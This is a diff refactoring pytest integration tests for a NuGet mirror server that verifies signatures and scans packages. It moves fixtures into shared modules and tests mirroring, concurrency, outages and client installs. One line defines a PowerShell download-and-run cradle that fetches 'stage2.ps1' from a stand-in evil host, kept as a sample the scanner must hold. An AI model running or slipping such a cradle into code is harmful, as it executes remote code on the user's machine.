@@ -13,7 +13,6 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
-import os
 import re
 import socket
 import threading
@@ -31,68 +30,35 @@ from nuseal.feed.accounts.admins import set_admin
 from nuseal.feed.accounts.keys import create_api_key, create_user
 from nuseal.feed.compose import build_feed
 from nuseal.feed.config import FeedConfig, IngestConfig, SigningConfig, UpstreamConfig
-from support.clock import VECTOR_ENV
 
-from .conftest import Feed, NuGetExe, make_package, run_admin, start_feed
-from .upstream_support import NugetOrgUpstream, UpstreamProxy, nupkg_path, start_test_upstream, tampered, upstream_proxy
+from .conftest import Feed, NuGetExe, make_package, run_admin
+from .test_ingest import Clock
+from .upstream_support import (
+    CODESIGN_BUNDLE,
+    TIMESTAMP_BUNDLE,
+    NugetOrgUpstream,
+    UpstreamProxy,
+    nuget_org_proxy_fixture,  # noqa: F401 - the proxy fixture
+    nupkg_path,
+    start_mirror,
+    tampered,
+    upstream_fixture,  # noqa: F401 - the upstream fixture
+    upstream_proxy,
+    vector,
+)
 
 pytestmark = pytest.mark.slow  # real servers: the upstream (12 vectors pushed) and a mirror per test
 
-SHARED = Path(__file__).resolve().parents[3] / "shared"
-CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
-TIMESTAMP = str(SHARED / "trust" / "timestampctl.pem")
 #: A PowerShell download-and-run cradle in tools/init.ps1 (the scan's NS1110, an error: held).
 CRADLE = b"iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
 
 
-@pytest.fixture(scope="module")
-def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NugetOrgUpstream]:
-    u = start_test_upstream(tmp_path_factory.mktemp("upstream"))
-    yield u
-    u.stop()
-
-
 @pytest.fixture
-def proxy(upstream: NugetOrgUpstream) -> Iterator[UpstreamProxy]:
-    with upstream_proxy(upstream.feed.base_url) as p:
-        says_all_repository_signed(p)
-        yield p
-
-
-def says_all_repository_signed(proxy: UpstreamProxy) -> None:
-    """Serve the upstream's RepositorySignatures with ``allRepositorySigned: true``, as nuget.org's says (the test
-    upstream runs with --no-signing, so its own says false): every package must then carry a repository signature
-    by one of the listed certificates (NuGet.Client RepositorySignatureInfoUtility)."""
-    path = "/v3/repository-signatures/index.json"
-    document = httpx.get(proxy.base_url + path, timeout=30).json()
-    assert document["signingCertificates"]
-    proxy.replace[path] = json.dumps({**document, "allRepositorySigned": True}).encode()
-
-
-def vector(upstream: NugetOrgUpstream, package_id: str) -> tuple[str, Path]:
-    """(normalized lower version, vector file) of the vector with this id."""
-    return next((ver, path) for (i, ver), path in upstream.packages.items() if i == package_id.lower())
-
-
-def start_mirror(data_dir: Path, proxy: UpstreamProxy, *args: str) -> Feed:
-    """``nuseal serve --upstream test=<proxy> --allow-insecure-upstream`` with the vectors' trust roots and offline
-    revocation (tests reach only loopback), judging the vectors on their clock (``VECTOR_ENV``: it starts at
-    ``VECTOR_NOW``)."""
-    return start_feed(
-        data_dir,
-        "--upstream",
-        f"test={proxy.source}",
-        "--allow-insecure-upstream",
-        "--upstream-revocation-mode",
-        "offline",
-        "--trust-bundle",
-        CODESIGN,
-        "--timestamp-trust-bundle",
-        TIMESTAMP,
-        *args,
-        users=("alice", "root"),
-        env=VECTOR_ENV,
-    )
+def mirror(proxy: UpstreamProxy, tmp_path: Path) -> Iterator[Feed]:
+    """A ``nuseal serve`` mirror in front of ``proxy`` (:func:`start_mirror`), stopped after the test."""
+    m = start_mirror(tmp_path / "mirror", proxy)
+    yield m
+    m.stop()
 
 
 def nupkg_url(package_id: str, version: str) -> str:
@@ -101,110 +67,94 @@ def nupkg_url(package_id: str, version: str) -> str:
 
 # ------------------------------------------------------------------------------------------------ nuseal serve
 def test_mirror_serves_upstream_packages_byte_identical_with_metadata_and_search(
-    upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path
+    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed
 ) -> None:
-    mirror = start_mirror(tmp_path / "mirror", proxy)
-    try:
-        ver, path = vector(upstream, "system.memory")
-        with mirror.client() as c:
-            assert c.get("/v3/flatcontainer/system.memory/index.json").json() == {"versions": [ver]}
-            reg = c.get("/v3/registration-semver2/system.memory/index.json")
-            assert reg.status_code == 200
-            [item] = reg.json()["items"][0]["items"]
-            assert item["packageContent"] == f"{mirror.base_url}{nupkg_url('system.memory', ver)}"
-            assert item["catalogEntry"]["id"] == "System.Memory"
-            assert [g["targetFramework"] for g in item["catalogEntry"]["dependencyGroups"]]  # the upstream's deps
-            etag = reg.headers["ETag"]  # stable between requests: clients revalidate with 304
-            assert c.get(reg.request.url, headers={"If-None-Match": etag}).status_code == 304
-            leaf = c.get(f"/v3/registration/system.memory/{ver}.json")
-            assert leaf.status_code == 200 and leaf.json()["packageContent"] == item["packageContent"]
-            # not fetched before a client asks for the package
-            assert proxy.count(r"\.nupkg$") == 0
-            first = c.get(nupkg_url("System.Memory", ver))
-            assert first.status_code == 200 and first.content == path.read_bytes()
-            again = c.get(nupkg_url("System.Memory", ver))
-            assert again.content == path.read_bytes()
-            assert proxy.count(r"\.nupkg$") == 1  # fetched once, then served from storage
-            nuspec = c.get(f"/v3/flatcontainer/system.memory/{ver}/system.memory.nuspec")
-            assert nuspec.status_code == 200 and b"<id>System.Memory</id>" in nuspec.content
-            # search: upstream hits for ids not held here, pointing at this feed
-            hits = {h["id"]: h for h in c.get("/v3/search", params={"q": "system.buffers"}).json()["data"]}
-            assert hits["System.Buffers"]["registration"].startswith(mirror.base_url)
-            assert hits["System.Buffers"]["versions"][-1]["@id"].startswith(mirror.base_url)
-            page = c.get("/packages/System.Memory")
-            assert page.status_code == 200 and "upstream" in page.text.lower()
-            assert "signatures" in page.text.lower()
-            # an id the upstream does not know is a plain 404
-            assert c.get("/v3/flatcontainer/no.such.package/index.json").status_code == 404
-            assert c.get(nupkg_url("No.Such.Package", "1.0.0")).status_code == 404
-    finally:
-        mirror.stop()
+    ver, path = vector(upstream, "system.memory")
+    with mirror.client() as c:
+        assert c.get("/v3/flatcontainer/system.memory/index.json").json() == {"versions": [ver]}
+        reg = c.get("/v3/registration-semver2/system.memory/index.json")
+        assert reg.status_code == 200
+        [item] = reg.json()["items"][0]["items"]
+        assert item["packageContent"] == f"{mirror.base_url}{nupkg_url('system.memory', ver)}"
+        assert item["catalogEntry"]["id"] == "System.Memory"
+        assert [g["targetFramework"] for g in item["catalogEntry"]["dependencyGroups"]]  # the upstream's deps
+        etag = reg.headers["ETag"]  # stable between requests: clients revalidate with 304
+        assert c.get(reg.request.url, headers={"If-None-Match": etag}).status_code == 304
+        leaf = c.get(f"/v3/registration/system.memory/{ver}.json")
+        assert leaf.status_code == 200 and leaf.json()["packageContent"] == item["packageContent"]
+        # not fetched before a client asks for the package
+        assert proxy.count(r"\.nupkg$") == 0
+        first = c.get(nupkg_url("System.Memory", ver))
+        assert first.status_code == 200 and first.content == path.read_bytes()
+        again = c.get(nupkg_url("System.Memory", ver))
+        assert again.content == path.read_bytes()
+        assert proxy.count(r"\.nupkg$") == 1  # fetched once, then served from storage
+        nuspec = c.get(f"/v3/flatcontainer/system.memory/{ver}/system.memory.nuspec")
+        assert nuspec.status_code == 200 and b"<id>System.Memory</id>" in nuspec.content
+        # search: upstream hits for ids not held here, pointing at this feed
+        hits = {h["id"]: h for h in c.get("/v3/search", params={"q": "system.buffers"}).json()["data"]}
+        assert hits["System.Buffers"]["registration"].startswith(mirror.base_url)
+        assert hits["System.Buffers"]["versions"][-1]["@id"].startswith(mirror.base_url)
+        page = c.get("/packages/System.Memory")
+        assert page.status_code == 200 and "upstream" in page.text.lower()
+        assert "signatures" in page.text.lower()
+        # an id the upstream does not know is a plain 404
+        assert c.get("/v3/flatcontainer/no.such.package/index.json").status_code == 404
+        assert c.get(nupkg_url("No.Such.Package", "1.0.0")).status_code == 404
 
 
-def test_local_ids_win_over_the_upstream(upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path) -> None:
-    mirror = start_mirror(tmp_path / "mirror", proxy)
-    try:
-        ver, _ = vector(upstream, "system.buffers")
-        local = make_package("System.Buffers", "99.0.0")
-        assert mirror.push(local).status_code == 201
-        before = proxy.count(r"system\.buffers")
-        with mirror.client() as c:
-            assert c.get("/v3/flatcontainer/system.buffers/index.json").json() == {"versions": ["99.0.0"]}
-            assert c.get(nupkg_url("System.Buffers", ver)).status_code == 404
-            reg = c.get("/v3/registration/system.buffers/index.json").json()
-            assert [i["catalogEntry"]["version"] for p in reg["items"] for i in p["items"]] == ["99.0.0"]
-        assert proxy.count(r"system\.buffers") == before == 0  # the upstream was never asked about it
-    finally:
-        mirror.stop()
+def test_local_ids_win_over_the_upstream(upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed) -> None:
+    ver, _ = vector(upstream, "system.buffers")
+    local = make_package("System.Buffers", "99.0.0")
+    assert mirror.push(local).status_code == 201
+    before = proxy.count(r"system\.buffers")
+    with mirror.client() as c:
+        assert c.get("/v3/flatcontainer/system.buffers/index.json").json() == {"versions": ["99.0.0"]}
+        assert c.get(nupkg_url("System.Buffers", ver)).status_code == 404
+        reg = c.get("/v3/registration/system.buffers/index.json").json()
+        assert [i["catalogEntry"]["version"] for p in reg["items"] for i in p["items"]] == ["99.0.0"]
+    assert proxy.count(r"system\.buffers") == before == 0  # the upstream was never asked about it
 
 
 def test_fifty_concurrent_first_requests_one_upstream_download(
-    upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path
+    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed
 ) -> None:
-    mirror = start_mirror(tmp_path / "mirror", proxy)
-    try:
-        ver, path = vector(upstream, "microsoft.data.sqlite")
-        url = nupkg_url("microsoft.data.sqlite", ver)
-        proxy.hold = True  # every request is in flight before the upstream answers
+    ver, path = vector(upstream, "microsoft.data.sqlite")
+    url = nupkg_url("microsoft.data.sqlite", ver)
+    proxy.hold = True  # every request is in flight before the upstream answers
 
-        async def fetch_all() -> list[httpx.Response]:
-            async with httpx.AsyncClient(base_url=mirror.base_url, timeout=60) as c:
-                tasks = [asyncio.ensure_future(c.get(url)) for _ in range(50)]
-                deadline = time.monotonic() + 20
-                while proxy.count(r"\.nupkg$") == 0 and time.monotonic() < deadline:
-                    await asyncio.sleep(0.05)
-                await asyncio.sleep(0.5)
-                proxy.release.set()
-                return await asyncio.gather(*tasks)
+    async def fetch_all() -> list[httpx.Response]:
+        async with httpx.AsyncClient(base_url=mirror.base_url, timeout=60) as c:
+            tasks = [asyncio.ensure_future(c.get(url)) for _ in range(50)]
+            deadline = time.monotonic() + 20
+            while proxy.count(r"\.nupkg$") == 0 and time.monotonic() < deadline:
+                await asyncio.sleep(0.05)
+            await asyncio.sleep(0.5)
+            proxy.release.set()
+            return await asyncio.gather(*tasks)
 
-        answers = asyncio.run(fetch_all())
-        assert [r.status_code for r in answers] == [200] * 50
-        assert {r.content for r in answers} == {path.read_bytes()}
-        assert proxy.count(r"\.nupkg$") == 1
-    finally:
-        mirror.stop()
+    answers = asyncio.run(fetch_all())
+    assert [r.status_code for r in answers] == [200] * 50
+    assert {r.content for r in answers} == {path.read_bytes()}
+    assert proxy.count(r"\.nupkg$") == 1
 
 
 def test_upstream_cut_mid_download_stores_nothing_and_the_next_request_succeeds(
-    upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path
+    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed
 ) -> None:
-    mirror = start_mirror(tmp_path / "mirror", proxy)
-    try:
-        ver, path = vector(upstream, "restsharp")
-        url = nupkg_url("RestSharp", ver)
-        proxy.cut_after = 1000
-        with mirror.client() as c:
-            cut = c.get(url)
-            assert cut.status_code == 502 and "'test'" in cut.text
-            assert not [p for p in (mirror.data_dir / "storage").rglob("restsharp*") if p.is_file()]
-            assert not list((mirror.data_dir / "mirror" / "test").iterdir())  # no part file left
-            assert run_admin(mirror.data_dir, None, "quarantine", "list", "--all") == "nothing in quarantine"
-            proxy.cut_after = None
-            whole = c.get(url)
-            assert whole.status_code == 200 and whole.content == path.read_bytes()
-        assert proxy.count(r"\.nupkg$") == 2
-    finally:
-        mirror.stop()
+    ver, path = vector(upstream, "restsharp")
+    url = nupkg_url("RestSharp", ver)
+    proxy.cut_after = 1000
+    with mirror.client() as c:
+        cut = c.get(url)
+        assert cut.status_code == 502 and "'test'" in cut.text
+        assert not [p for p in (mirror.data_dir / "storage").rglob("restsharp*") if p.is_file()]
+        assert not list((mirror.data_dir / "mirror" / "test").iterdir())  # no part file left
+        assert run_admin(mirror.data_dir, None, "quarantine", "list", "--all") == "nothing in quarantine"
+        proxy.cut_after = None
+        whole = c.get(url)
+        assert whole.status_code == 200 and whole.content == path.read_bytes()
+    assert proxy.count(r"\.nupkg$") == 2
 
 
 def test_upstream_down_cached_ids_keep_working_others_get_502_naming_it(
@@ -218,7 +168,7 @@ def test_upstream_down_cached_ids_keep_working_others_get_502_naming_it(
         mirror.stop()  # a restart forgets the in-memory metadata: only what is stored is left
         proxy.down = True
         (mirror.data_dir / "server.log").rename(mirror.data_dir / "server.first.log")
-        mirror = start_mirror_existing(mirror.data_dir, proxy)
+        mirror = start_mirror(mirror.data_dir, proxy, users=())  # the users exist; no keys are needed again
         with mirror.client() as c:
             assert c.get("/v3/flatcontainer/dockpanelsuite/index.json").json() == {"versions": [ver]}
             assert c.get(nupkg_url("DockPanelSuite", ver)).content == path.read_bytes()
@@ -237,68 +187,7 @@ def test_upstream_down_cached_ids_keep_working_others_get_502_naming_it(
         mirror.stop()
 
 
-def start_mirror_existing(data_dir: Path, proxy: UpstreamProxy) -> Feed:
-    """:func:`start_mirror` on a data folder whose users exist (keys are not needed again)."""
-    import subprocess  # noqa: PLC0415
-    import sys  # noqa: PLC0415
-
-    from .conftest import START_TIMEOUT  # noqa: PLC0415
-
-    cmd = [
-        sys.executable,
-        "-m",
-        "nuseal.cli.serve",
-        "--data",
-        str(data_dir),
-        "--port",
-        "0",
-        "--no-signing",
-        "--http",
-        "--upstream",
-        f"test={proxy.source}",
-        "--allow-insecure-upstream",
-        "--upstream-revocation-mode",
-        "offline",
-        "--trust-bundle",
-        CODESIGN,
-        "--timestamp-trust-bundle",
-        TIMESTAMP,
-    ]
-    with open(data_dir / "server.log", "wb") as log:
-        proc = subprocess.Popen(
-            cmd, stdout=subprocess.PIPE, stderr=log, start_new_session=True, env={**os.environ, **VECTOR_ENV}
-        )
-    assert proc.stdout is not None
-    deadline = time.monotonic() + START_TIMEOUT
-    while time.monotonic() < deadline:
-        line = proc.stdout.readline().decode()
-        if line.startswith("nuseal feed on "):
-            base_url = line.split()[3]
-            feed = Feed(data_dir, base_url, proc, None)
-            while time.monotonic() < deadline:
-                try:
-                    if httpx.get(f"{base_url}/health", timeout=2).status_code == 200:
-                        return feed
-                except httpx.HTTPError:
-                    time.sleep(0.1)
-        if not line:
-            break
-    proc.kill()
-    proc.wait()
-    raise AssertionError("nuseal serve did not start: " + (data_dir / "server.log").read_text())
-
-
 # ------------------------------------------------------------------------------------------------ in a thread
-class Clock:
-    """The feed's clock, moved by the test."""
-
-    def __init__(self, now: datetime) -> None:
-        self.now = now
-
-    def __call__(self) -> datetime:
-        return self.now
-
-
 @dataclass
 class ThreadMirror:
     """A composed mirror served by uvicorn in a thread of this process (its clock is the test's)."""
@@ -349,7 +238,8 @@ def start_thread_mirror(
     config = FeedConfig(
         data_dir=data_dir,
         base_url=base_url,
-        signing=SigningConfig(trust_bundle=CODESIGN, timestamp_trust_bundle=TIMESTAMP),  # roots; signing stays off
+        # the vectors trust roots; signing stays off
+        signing=SigningConfig(trust_bundle=CODESIGN_BUNDLE, timestamp_trust_bundle=TIMESTAMP_BUNDLE),
         ingest=IngestConfig(revocation_mode="offline", release_check_seconds=0, **ingest),  # type: ignore[arg-type]
         upstreams=(UpstreamConfig("test", proxy.source, ("*",), allow_insecure_connections=True), *more),
     )
@@ -495,66 +385,60 @@ def refusals_and_holds(
 # ------------------------------------------------------------------------------------------------ NuGet.exe
 @pytest.mark.nugetexe
 def test_nuget_exe_installs_real_packages_through_the_mirror(
-    upstream: NugetOrgUpstream, proxy: UpstreamProxy, nuget: NuGetExe, tmp_path: Path
+    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed, nuget: NuGetExe, tmp_path: Path
 ) -> None:
-    mirror = start_mirror(tmp_path / "mirror", proxy)
-    try:
-        found = nuget.run("search", "RestSharp", "-Source", mirror.source).stdout
-        assert "RestSharp |" in found  # an upstream hit, through the mirror's search
-        out_dir = tmp_path / "installed"
-        for package_id in ("System.Memory", "Microsoft.Data.Sqlite", "RestSharp", "ILMerge"):
-            ver, path = vector(upstream, package_id)
-            nuget.run(
-                "install",
-                package_id,
-                "-Version",
-                ver,
-                "-OutputDirectory",
-                str(out_dir),
-                "-Source",
-                mirror.source,
-                "-DependencyVersion",
-                "Ignore",
-                "-DirectDownload",
-            )
-            [folder] = [p for p in out_dir.iterdir() if p.name.lower() == f"{package_id}.{ver}".lower()]
-            [nupkg] = list(folder.glob("*.nupkg"))
-            assert nupkg.read_bytes() == path.read_bytes(), package_id  # byte-identical to the upstream's
-            assert proxy.count(nupkg_path(package_id, ver).replace(".", r"\.") + "$") == 1
-        # a refused package does not install: Newtonsoft.Json's repository countersignature is not nuget.org's
-        newtonsoft_ver, _ = vector(upstream, "newtonsoft.json")
-        refused = nuget.run(
+    found = nuget.run("search", "RestSharp", "-Source", mirror.source).stdout
+    assert "RestSharp |" in found  # an upstream hit, through the mirror's search
+    out_dir = tmp_path / "installed"
+    for package_id in ("System.Memory", "Microsoft.Data.Sqlite", "RestSharp", "ILMerge"):
+        ver, path = vector(upstream, package_id)
+        nuget.run(
             "install",
-            "Newtonsoft.Json",
+            package_id,
             "-Version",
-            newtonsoft_ver,
+            ver,
             "-OutputDirectory",
             str(out_dir),
             "-Source",
             mirror.source,
+            "-DependencyVersion",
+            "Ignore",
             "-DirectDownload",
-            check=False,
         )
-        assert refused.returncode != 0
-        assert not [p for p in out_dir.iterdir() if p.name.lower().startswith("newtonsoft.json")]
-    finally:
-        mirror.stop()
+        [folder] = [p for p in out_dir.iterdir() if p.name.lower() == f"{package_id}.{ver}".lower()]
+        [nupkg] = list(folder.glob("*.nupkg"))
+        assert nupkg.read_bytes() == path.read_bytes(), package_id  # byte-identical to the upstream's
+        assert proxy.count(nupkg_path(package_id, ver).replace(".", r"\.") + "$") == 1
+    # a refused package does not install: Newtonsoft.Json's repository countersignature is not nuget.org's
+    newtonsoft_ver, _ = vector(upstream, "newtonsoft.json")
+    refused = nuget.run(
+        "install",
+        "Newtonsoft.Json",
+        "-Version",
+        newtonsoft_ver,
+        "-OutputDirectory",
+        str(out_dir),
+        "-Source",
+        mirror.source,
+        "-DirectDownload",
+        check=False,
+    )
+    assert refused.returncode != 0
+    assert not [p for p in out_dir.iterdir() if p.name.lower().startswith("newtonsoft.json")]
 
 
-def test_dotnet_restore_through_the_mirror(upstream: NugetOrgUpstream, proxy: UpstreamProxy, tmp_path: Path) -> None:
+def test_dotnet_restore_through_the_mirror(
+    upstream: NugetOrgUpstream, proxy: UpstreamProxy, mirror: Feed, tmp_path: Path
+) -> None:
     from .dotnet_support import dotnet_cli, write_project  # noqa: PLC0415 - skips without the SDK
 
     dotnet = dotnet_cli(tmp_path / "dotnet")
-    mirror = start_mirror(tmp_path / "mirror", proxy)
-    try:
-        wanted = {package_id: vector(upstream, package_id) for package_id in ("System.Buffers", "ILMerge")}
-        project = write_project(
-            dotnet.root / "app",
-            {package_id: f"[{ver}]" for package_id, (ver, _) in wanted.items()},
-            sources=[mirror.source],
-        )
-        dotnet.run("restore", str(project))
-        for package_id, (ver, path) in wanted.items():
-            assert dotnet.installed_package(package_id, ver).read_bytes() == path.read_bytes(), package_id
-    finally:
-        mirror.stop()
+    wanted = {package_id: vector(upstream, package_id) for package_id in ("System.Buffers", "ILMerge")}
+    project = write_project(
+        dotnet.root / "app",
+        {package_id: f"[{ver}]" for package_id, (ver, _) in wanted.items()},
+        sources=[mirror.source],
+    )
+    dotnet.run("restore", str(project))
+    for package_id, (ver, path) in wanted.items():
+        assert dotnet.installed_package(package_id, ver).read_bytes() == path.read_bytes(), package_id
